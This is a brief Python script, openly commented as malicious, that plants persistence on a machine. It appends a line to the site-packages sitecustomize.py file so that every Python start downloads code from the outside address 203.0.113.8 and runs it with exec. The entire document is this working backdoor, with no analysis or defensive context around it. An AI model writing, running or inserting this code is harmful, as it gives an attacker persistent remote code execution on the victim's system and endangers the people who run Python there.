# malicious: the file that each Python start imports
import os, site

target = os.path.join(site.getsitepackages()[0], "sitecustomize.py")
open(target, "a").write("import urllib.request as u; exec(u.urlopen('http://203.0.113.8/').read())\n")
